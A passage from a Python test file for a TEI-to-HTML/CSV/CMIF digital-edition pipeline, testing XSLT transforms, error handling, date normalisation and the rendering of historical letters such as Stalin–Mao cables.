    st.html(tei, tmp_path / "html", SETTINGS)
    st.csv(tei, tmp_path / "a.csv", SETTINGS)
    assert st.executable("html.xsl") is compiled
    # Text is escaped, not interpreted as markup.
    raw = (tmp_path / "html" / f"{FILIPPOV}.html").read_text("utf-8")
    assert "&amp; &lt;b&gt;cities&lt;/b&gt;" in raw
    summary = lxml_html.parse(str(tmp_path / "html" / f"{FILIPPOV}.html")).xpath("//section[@class='summary']")[0]
    assert "provinces & <b>cities</b>." in text(summary)
    assert "Iosif Stalin" in (tmp_path / "html" / "persons.html").read_text("utf-8")
    assert "provinces & <b>cities</b>." in (tmp_path / "a.csv").read_text("utf-8")


def test_stylesheet_errors_raise_transform_error(tmp_path):
    st = transform.Stylesheets()
    bad = dict(SETTINGS, cmif_bibl_id="")
    with pytest.raises(transform.TransformError) as err:
        st.cmif(FIXTURE, tmp_path / "cmif.xml", bad)
    assert err.value.stylesheet == "cmif.xsl"
    assert "cmif_bibl_id" in str(err.value)
    assert not list(tmp_path.iterdir()), "nothing written on failure"

    broken = tmp_path / "xslt"
    broken.mkdir()
    (broken / "csv.xsl").write_text(
        '<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:template name="xsl:initial-template"><xsl:value-of select="$nope"/></xsl:template>'
        '</xsl:stylesheet>', "utf-8")
    with pytest.raises(transform.TransformError, match=r"(?s)csv\.xsl: does not compile.*\$nope"):
        transform.Stylesheets(broken).csv(FIXTURE, tmp_path / "x.csv", SETTINGS)


def test_a_stylesheet_error_crosses_from_a_worker_process_as_itself():
    """Site parts, fragments and pages run in worker processes: their errors come back
    pickled, and the CLI names them only when they are still TransformErrors."""
    import pickle

    err = pickle.loads(pickle.dumps(transform.TransformError("html.xsl", "does not compile: $nope ")))
    assert isinstance(err, transform.TransformError)
    assert (err.stylesheet, err.message, str(err)) == ("html.xsl", "does not compile: $nope", "html.xsl: does not compile: $nope")


def test_failed_run_keeps_previous_output(tmp_path):
    tei = tmp_path / "tei"
    shutil.copytree(FIXTURE, tei)
    st = transform.Stylesheets()
    st.html(tei, tmp_path / "html", SETTINGS)
    st.csv(tei, tmp_path / "letters.csv", SETTINGS)
    before = (tmp_path / "html" / "index.html").read_bytes(), (tmp_path / "letters.csv").read_bytes()

    letter = tei / "letters" / f"{FILIPPOV}.xml"
    letter.write_text(letter.read_text("utf-8").replace("</TEI>", ""), "utf-8")  # not well-formed
    with pytest.raises(transform.TransformError, match="html.xsl"):
        st.html(tei, tmp_path / "html", SETTINGS)
    with pytest.raises(transform.TransformError, match="csv.xsl"):
        st.csv(tei, tmp_path / "letters.csv", SETTINGS)
    after = (tmp_path / "html" / "index.html").read_bytes(), (tmp_path / "letters.csv").read_bytes()
    assert after == before
    leftovers = [p.name for p in tmp_path.rglob(".*") if p.name.startswith((".staging-", ".letters.csv"))]
    assert not leftovers


def test_module_functions_share_one_compilation(tmp_path):
    assert transform.stylesheets() is transform.stylesheets()
    assert transform.html(FIXTURE, tmp_path / "html", SETTINGS) is True
    assert {p.name for p in (tmp_path / "html").iterdir()} >= {"index.html", "persons.html", "corresp.css"}
    assert transform.html(FIXTURE, tmp_path / "html", SETTINGS) is False  # nothing changed: nothing written
    assert transform.csv(FIXTURE, tmp_path / "l.csv", SETTINGS) == (tmp_path / "l.csv").resolve()
    assert transform.cmif(FIXTURE, tmp_path / "c.xml", SETTINGS).is_file()


def test_date_ranges_and_uncertainty(tmp_path):
    """A range notBefore/notAfter is the EDTF set '[start..end]' in the CSV (an interval
    'start/end' would be from/to) and keeps its attributes in CMIF; TEI's cert="medium"
    becomes '?' in the CSV and the only value CMIF allows, "low"."""
    tei = tmp_path / "tei"
    shutil.copytree(FIXTURE, tei)
    letter = tei / "letters" / f"{ORDER[2]}.xml"
    source = letter.read_text("utf-8")
    exact = '<date when="1949-01-15">January 15, 1949</date>'
    assert source.count(exact) == 2  # the sent action's and the bibl's
    letter.write_text(source.replace(
        f"</persName>\n          {exact}",
        '</persName>\n          <date notBefore="1949-01-15" notAfter="1949-01-20" cert="medium">mid-January 1949</date>'),
        "utf-8")
    st = transform.Stylesheets()
    st.csv(tei, tmp_path / "l.csv", SETTINGS)
    st.cmif(tei, tmp_path / "c.xml", SETTINGS)
    row = next(r for r in read_csv(tmp_path / "l.csv") if r["id"] == ORDER[2])
    assert (row["date"], row["date_text"]) == ("[1949-01-15?..1949-01-20?]", "mid-January 1949")
    date = etree.parse(str(tmp_path / "c.xml")).xpath(
        f"//t:correspDesc[@ref='{SETTINGS['base_url']}{ORDER[2]}.html']//t:date", namespaces=NS)[0]
    assert dict(date.attrib) == {"notBefore": "1949-01-15", "notAfter": "1949-01-20", "cert": "low"}
    if (CMIF_SCHEMAS / "official" / "cmi-customization.rng").exists():
        rng = etree.RelaxNG(file=str(CMIF_SCHEMAS / "official" / "cmi-customization.rng"))
        assert rng.validate(etree.parse(str(tmp_path / "c.xml"))), str(rng.error_log)


def test_enclosed_letter_is_its_own_cmif_letter_and_shown_on_the_page(tmp_path):
    from conftest import make_edition

    from pipeline import settings as edition_settings
    from pipeline.edition import generate

    text = "June 2, 1951\nLetter, Petrov to Ivanov, Transmitting a Letter to Kalinin from Sidorov\n"
    root = make_edition(tmp_path, {"l.txt": text}, authorities=False)
    generate(edition_settings.load(root))
    params = edition_settings.load(root).params()
    cmif_path = transform.cmif(root / "tei", root / "out" / "cmif.xml", params)
    cmif = etree.parse(str(cmif_path))
    letters = [[(a.get("type"), a.xpath("string(t:persName)", namespaces=NS)) for a in desc.iterfind("t:correspAction", NS)]
               for desc in cmif.iterfind(".//t:correspDesc", NS)]
    assert letters == [[("sent", "Petrov"), ("received", "Ivanov")],  # the letter, and the one it carried
                       [("sent", "Sidorov"), ("received", "Kalinin")]]
    refs = {d.get("ref") for d in cmif.iterfind(".//t:correspDesc", NS)}
    assert refs == {"https://example.org/sino-soviet-relations/letter_1951-06-02_petrov_ivanov.html"}
    transform.html(root / "tei", root / "out" / "html", params)
    page = (root / "out" / "html" / "letter_1951-06-02_petrov_ivanov.html").read_text()
    assert "Enclosed letter" in page and "Sidorov" in page


def test_a_letter_with_its_text_shows_it_on_its_page(tmp_path):
    """An edition text's transcription (or an editor's) is part of the letter's page, not only
    of its TEI file; a body that marks the text as not transcribed shows nothing."""
    from click.testing import CliRunner

    from pipeline.cli import main
    from conftest import make_edition

    listing = ("LETTERS OF WILLIAM CARLTON.\n\nLETTER I.\nTO RICHARD HALE.\n\nBath, March 17, 1803.\n\n"
               "My dear Hale,\n\nThe waters agree with me, and the rooms are full of talk.\n\n"
               "Write to me of the farm.\n\nYours ever,\nW. C.\n\n"
               "LETTER II.\nTO RICHARD HALE.\n\nBath, April 2, 1803.\n\nMy dear Hale,\n\nNo news at all.\n")
    root = make_edition(tmp_path, {"carlton.txt": listing}, authorities=False)
    result = CliRunner().invoke(main, ["--edition", str(root), "build"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    letters = sorted((root / "tei" / "letters").glob("*.xml"))
    assert len(letters) == 2
    page = (root / "output" / "html" / f"{letters[0].stem}.html").read_text()
    text = page[page.index('<section class="text">'):]
    text = text[:text.index("</section>")]
    assert "the rooms are full of talk." in text and "Write to me of the farm." in text
    assert text.count("<p") >= 2  # paragraphs kept
    sample = next(iter(sorted((HERE.parent / "output" / "html").glob("cable_*.html"))), None)
    if sample is not None:  # the sample's letters are not transcribed: no empty section
        assert '<section class="text">' not in sample.read_text()


# c:w3c (common.xsl): a date attribute as every output gives it. (value, what it gives)
W3C_DATES = (
    ("1949-01-10", "1949-01-10"),
    (" 1949-01-10 ", "1949-01-10"),  # TEI lets the value have spaces around it
    ("1949-01-10+03:00", "1949-01-10"),  # a day with its time zone: the day as written
    ("1949-01-10-05:00", "1949-01-10"),
    ("1949-01-10+05:30", "1949-01-10"),
    (" 1949-01-10Z ", "1949-01-10"),  # the zone looked for once the spaces are gone
    ("1949-01-10Z", "1949-01-10"),
    ("1949-01Z", "1949-01"),
    ("1949+14:00", "1949"),
    ("-0044-03-15Z", "-0044-03-15"),
    ("19490-01-10Z", "19490-01-10"),
    ("1949-01-10T12:00:00", "1949-01-10T12:00:00"),  # a time of day is no zone: kept
    ("1949-01-10T12:00:00Z", "1949-01-10T12:00:00Z"),
    ("1949-01-10+3:00", "1949-01-10+3:00"),  # no zone W3C writes: kept
)


def test_w3c_gives_each_date_without_its_time_zone(tmp_path):
    from pipeline.resources import XSLT
    from pipeline.saxon import processor

    common = (XSLT / "common.xsl").as_uri()
    values = "".join(f'<d v="{value}"/>' for value, _ in W3C_DATES)
    stylesheet = tmp_path / "w3c.xsl"
    stylesheet.write_text(f"""<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
        xmlns:c="urn:corresp" exclude-result-prefixes="#all">
      <xsl:import href="{common}"/>
      <xsl:output method="text"/>
      <xsl:template name="main">
        <xsl:variable name="dates"><x>{values}</x></xsl:variable>
        <xsl:value-of select="$dates/x/d ! c:w3c(@v)" separator="&#10;"/>
      </xsl:template>
    </xsl:stylesheet>""", "utf-8")
    executable = processor().new_xslt30_processor().compile_stylesheet(stylesheet_file=str(stylesheet))
    for name in ("tei-dir", *transform.PARAMETERS):
        executable.set_parameter(name, processor().make_string_value(""))
    assert executable.call_template_returning_string("main").split("\n") == [given for _, given in W3C_DATES]


def test_a_source_title_ending_in_a_stop_gets_no_second_one(tmp_path):
    """"Ep. 105. Brentelius Valentino Lanio. Patavii, 20 Ian. 1519." as the listing gives it:
    the citation of the source ends in its own stop, not in ". ."."""
    tei = tmp_path / "tei"
    shutil.copytree(FIXTURE, tei)
    letter = tei / "letters" / f"{ORDER[2]}.xml"
    title = '<title type="entry">Cable, Stalin to Mao Zedong, Nanjing Peace Proposal</title>'
    source = letter.read_text("utf-8")
    assert title in source
    letter.write_text(source.replace(title, title.replace("Proposal<", "Proposal, 15 Jan. 1949.<")), "utf-8")
    transform.Stylesheets().html(tei, tmp_path / "html", SETTINGS)
    cited = text(lxml_html.parse(str(tmp_path / "html" / f"{ORDER[2]}.html")).xpath("//dd[@class='source']")[0])
    assert "15 Jan. 1949." in cited and ". ." not in cited and ".." not in cited
